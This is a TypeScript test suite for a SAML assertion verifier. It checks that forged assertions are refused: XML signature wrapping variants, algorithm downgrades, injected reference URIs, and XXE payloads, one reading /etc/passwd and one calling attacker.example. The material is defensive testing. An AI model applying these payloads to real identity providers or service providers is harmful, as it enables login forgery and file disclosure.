import assert from 'node:assert/strict'
import { createHmac, X509Certificate } from 'node:crypto'
import { test } from 'node:test'
import { SamlError } from './saml-xml.ts'
import { AssertionMaker } from './testing/assertion-maker.ts'
import { verifyAssertion } from './verify-assertion.ts'
import { algorithms } from './vocabulary.ts'

const audience = 'https://sluice.example'
const provider = new AssertionMaker({ audience })
const rsa = new AssertionMaker({ audience, keyType: 'rsa' })
const attacker = new AssertionMaker({ audience })
const keys = [provider, rsa].map(({ certificate }) => ({ publicKey: new X509Certificate(certificate).publicKey }))

const original = provider.unsigned({ id: '_good' })
const signature = provider.signature(original)
const good = provider.sign(original)
const evil = provider.unsigned({ id: '_evil', nameId: 'admin' })
const protocol = 'urn:oasis:names:tc:SAML:2.0:protocol'
const response = (content: string, id = '_response') =>
  `<samlp:Response xmlns:samlp="${protocol}" ID="${id}" Version="2.0">${content}</samlp:Response>`
/** Puts something behind the issuer, where the signature belongs. */
const behindIssuer = (xml: string, more: string) => xml.replace('</saml:Issuer>', `</saml:Issuer>${more}`)
const atEnd = (xml: string, more: string) => xml.replace(/<\/saml:Assertion>$/, `${more}</saml:Assertion>`)
const inObject = (more: string) => signature.replace('</ds:Signature>', `<ds:Object>${more}</ds:Object></ds:Signature>`)

/** A response that the provider signs as a whole. */
const signedResponse = response(original)
const responseSignature = provider.signature(signedResponse)

const attempts: readonly [what: string, xml: string, reason?: RegExp][] = [
  // Signature wrapping as Somorovsky et al. 2012 number it, with a response around it and, where it can be, without.
  [
    'XSW 1',
    response(
      evil + responseSignature.replace('</ds:Signature>', `<ds:Object>${signedResponse}</ds:Object></ds:Signature>`),
      '_evil_r',
    ),
  ],
  ['XSW 2', response(signedResponse + responseSignature + evil, '_evil_r')],
  ['XSW 3', response(evil + good)],
  ['XSW 4', response(atEnd(evil, good))],
  ['XSW 4 without response', atEnd(evil, good), /not that of the root/],
  ['XSW 5', response(behindIssuer(evil, signature) + original)],
  ['XSW 6', response(behindIssuer(evil, inObject(original)))],
  ['XSW 6 without response', behindIssuer(evil, inObject(original)), /does not consist of/],
  ['XSW 7', response(`<samlp:Extensions>${evil}</samlp:Extensions>${good}`)],
  [
    'XSW 8',
    response(
      behindIssuer(evil, inObject(`${original.replace('<saml:Assertion', '<ds:Object><saml:Assertion')}</ds:Object>`)),
    ),
  ],
  [
    'the signed assertion in an evil one that carries its signature',
    atEnd(behindIssuer(evil, signature), original),
    /another element/,
  ],
  [
    'the same, with the ID of the signed one',
    atEnd(behindIssuer(evil.replace('_evil', '_good'), signature), original),
    /ID of the root/,
  ],
  ['the signed assertion as advice', atEnd(behindIssuer(evil, signature), `<saml:Advice>${original}</saml:Advice>`)],
  ['an evil assertion inside the signed one', behindIssuer(good, evil)],
  ['a second signature', behindIssuer(good, provider.signature(evil)), /more than one signature/],
  ['an unsigned assertion in a signed response', response(responseSignature + original)],
  [
    'an assertion whose ID stands elsewhere, too',
    good.replace('<saml:Subject>', '<saml:Subject Id="_good">'),
    /ID of the root/,
  ],
  [
    'an assertion whose ID stands elsewhere as xml:id',
    good.replace('<saml:Subject>', '<saml:Subject xml:id="_good">'),
    /ID of the root/,
  ],
  ['no signature', original, /no signature/],
  ['nothing', '', /./],
  [
    'a signed document that is no assertion',
    response(responseSignature + original).replaceAll('samlp:Response', 'samlp:X'),
  ],
  // What was signed is changed.
  ['another name', good.replace('>ada<', '>admin<'), /does not fit/],
  ['another ID', good.replaceAll('_good', '_other'), /does not fit/],
  ['another audience', good.replace(`>${audience}<`, '>x<'), /does not fit/],
  ['another digest', good.replace('>ada<', '>admin<').replace(/(<ds:DigestValue>)[^<]*/, `$1${digestOf(evil)}`), /./],
  ['an empty signature value', good.replace(/(<ds:SignatureValue>)[^<]*/, '$1'), /./],
  // By other means than the provider's key and the accepted algorithms.
  ['a key nobody trusts', attacker.assertion(), /no trusted key/],
  [
    'a key nobody trusts, with its certificate in KeyInfo',
    attacker.assertion(
      {},
      { keyInfo: `<ds:X509Data><ds:X509Certificate>${base64(attacker)}</ds:X509Certificate></ds:X509Data>` },
    ),
    /no trusted key/,
  ],
  [
    'a key nobody trusts, with the certificate of the provider in KeyInfo',
    attacker.assertion(
      {},
      { keyInfo: `<ds:X509Data><ds:X509Certificate>${base64(provider)}</ds:X509Certificate></ds:X509Data>` },
    ),
    /no trusted key/,
  ],
  ...['http://www.w3.org/2000/09/xmldsig#hmac-sha1', 'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256'].flatMap(
    signatureMethod =>
      [provider.certificate, base64(provider), ''].map((shared): [string, string, RegExp] => {
        const signatureOf = (text: string) =>
          createHmac(signatureMethod.endsWith('1') ? 'sha1' : 'sha256', shared)
            .update(text)
            .digest()
        return [
          'HMAC with what is public',
          provider.assertion({}, { signatureMethod, signatureOf }),
          /SignatureMethod has an algorithm/,
        ]
      }),
  ),
  [
    'RSA with SHA-1',
    rsa.assertion({}, { signatureMethod: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1' }),
    /SignatureMethod/,
  ],
  [
    'ECDSA with SHA-1',
    provider.assertion({}, { signatureMethod: 'http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1' }),
    /SignatureMethod/,
  ],
  [
    'an RSA signature that says it is one of ECDSA',
    rsa.assertion({}, { signatureMethod: 'http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256' }),
    /no trusted key/,
  ],
  [
    'a digest of SHA-1',
    provider.assertion({}, { digestMethod: 'http://www.w3.org/2000/09/xmldsig#sha1' }),
    /DigestMethod/,
  ],
  [
    'a digest of MD5',
    provider.assertion({}, { digestMethod: 'http://www.w3.org/2001/04/xmldsig-more#md5' }),
    /DigestMethod/,
  ],
  ['an algorithm that every object has', provider.assertion({}, { signatureMethod: 'constructor' }), /SignatureMethod/],
  [
    'inclusive canonicalization',
    provider.assertion({}, { canonicalization: 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315' }),
    /CanonicalizationMethod/,
  ],
  [
    'canonicalization with comments',
    provider.assertion({}, { canonicalization: `${algorithms.exclusiveCanonicalization}WithComments` }),
    /CanonicalizationMethod/,
  ],
  ...[
    ['http://www.w3.org/TR/1999/REC-xslt-19991116'],
    ['http://www.w3.org/TR/1999/REC-xpath-19991116'],
    ['http://www.w3.org/2000/09/xmldsig#base64'],
    ['http://www.w3.org/2002/06/xmldsig-filter2'],
    [`${algorithms.exclusiveCanonicalization}WithComments`],
  ].map(([transform = '']): [string, string, RegExp] => [
    `the transform ${transform}`,
    provider.assertion({}, { transforms: [algorithms.envelopedSignature, transform] }),
    /Transform has an algorithm/,
  ]),
  [
    'one transform',
    provider.assertion({}, { transforms: [algorithms.exclusiveCanonicalization] }),
    /Transforms does not consist/,
  ],
  [
    'two canonicalizations, and none that leaves the signature out',
    provider.assertion(
      {},
      { transforms: [algorithms.exclusiveCanonicalization, algorithms.exclusiveCanonicalization] },
    ),
    /Transform has an algorithm/,
  ],
  [
    'three transforms',
    provider.assertion(
      {},
      {
        transforms: [
          algorithms.envelopedSignature,
          algorithms.exclusiveCanonicalization,
          algorithms.exclusiveCanonicalization,
        ],
      },
    ),
    /Transforms does not consist/,
  ],
  ...['', '#_other', '#', '#xpointer(/)', "#_good' or '1'='1", 'https://sluice.example/', '#_good2'].map(
    (uri): [string, string, RegExp] => [
      `a reference to "${uri}"`,
      provider.sign(original, { uri }),
      /refers to another element/,
    ],
  ),
  ['a signature over another element', overSubject(), /refers to another element/],
  ['two references', good.replace(/<ds:Reference.*<\/ds:Reference>/, '$&$&'), /SignedInfo does not consist/],
  ['an object in the signature', behindIssuer(original, inObject('<x></x>')), /Signature does not consist/],
  ['two SignedInfo', good.replace(/<ds:SignedInfo>.*<\/ds:SignedInfo>/, '$&$&'), /Signature does not consist/],
  [
    'a manifest',
    good.replace('<ds:Reference ', '<ds:Manifest></ds:Manifest><ds:Reference '),
    /SignedInfo does not consist/,
  ],
  ['an ID with a quotation mark', provider.assertion({ id: "_a' or 'b" }), /no usable ID/],
  [
    'an encrypted assertion',
    `<saml:EncryptedAssertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"></saml:EncryptedAssertion>`,
    /no SAML 2.0 assertion/,
  ],
  // Against the parser.
  ['a DOCTYPE', `<!DOCTYPE x>${good}`, /document type/],
  [
    'an external entity',
    `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${good.replace('>ada<', '>&e;<')}`,
    /document type/,
  ],
  [
    'a billion laughs',
    `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>${good.replace('>ada<', '>&b;<')}`,
    /document type/,
  ],
  ['a parameter entity', `<!DOCTYPE x [<!ENTITY % e SYSTEM "http://attacker.example/"> %e;]>${good}`, /document type/],
  ['an entity that nobody declares', good.replace('>ada<', '>&e;<'), /cannot be read/],
  ['text behind the root', `${good}x`, /cannot be read/],
  ['two roots', good + good, /cannot be read/],
  ['a prefix without namespace', good.replace('<saml:Subject>', '<saml:Subject><y:z></y:z>'), /cannot be read/],
  ['an attribute twice', good.replace(' Version', ' Version="2.0" Version'), /cannot be read/],
  ['a null character', good.replace('>ada<', '>ada\0<'), /cannot be read/],
  [
    'deep nesting',
    provider.assertion({ replace: [['>ada<', `>${'<x>'.repeat(40)}${'</x>'.repeat(40)}<`]] }),
    /nested|deep|levels/,
  ],
  ['too much text', provider.assertion({ nameId: 'a'.repeat(50_000) }), /at most/],
  ['too many elements', provider.assertion({ replace: [['>ada<', `>${'<x></x>'.repeat(1_500)}<`]] }), /at most/],
]

function digestOf(canonical: string): string {
  return /<ds:DigestValue>([^<]*)/.exec(provider.signature(canonical))?.[1] ?? ''
}

function base64({ certificate }: AssertionMaker): string {
  return certificate.replace(/-----.*-----|\s/g, '')
}

/** The provider signed a subject, which somebody puts into another assertion. */
function overSubject(): string {
  const subject = '<saml:Subject xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_subject"></saml:Subject>'
  return behindIssuer(evil, provider.signature(subject) + subject)
}

for (const [what, xml, reason = /./] of attempts) {
  test(`refused: ${what}`, () => {
    assert.throws(
      () => verifyAssertion(xml, keys),
      (error: Error) => {
        assert.ok(error instanceof SamlError, String(error.stack))
        assert.match(error.message, reason)
        return true
      },
    )
  })
}

test('what these attempts begin with is accepted', () => {
  assert.equal(verifyAssertion(good, keys).assertion.nameId?.value, 'ada')
})

const split = provider.assertion({ nameId: 'admin.attacker' })
const readWhole: readonly [what: string, xml: string][] = [
  ['a comment', split.replace('admin.attacker', 'admin<!---->.attacker')],
  ['a comment in front', split.replace('admin.attacker', '<!--x-->admin.attacker')],
  ['CDATA', split.replace('admin.attacker', 'admin<![CDATA[.attacker]]>')],
  ['a character reference', split.replace('admin.attacker', 'admin&#46;attacker')],
]

for (const [what, xml] of readWhole) {
  test(`a name is read whole as it was signed: ${what} in it`, () => {
    assert.equal(verifyAssertion(xml, keys).assertion.nameId?.value, 'admin.attacker')
  })
}

test('a processing instruction in a name changes nothing of what was signed', () => {
  const xml = split.replace('admin.attacker', 'admin<?x y?>.attacker')
  let name: string | undefined
  try {
    name = verifyAssertion(xml, keys).assertion.nameId?.value
  } catch (error) {
    assert.ok(error instanceof SamlError)
  }
  assert.ok(name === undefined || name === 'admin.attacker', name)
})
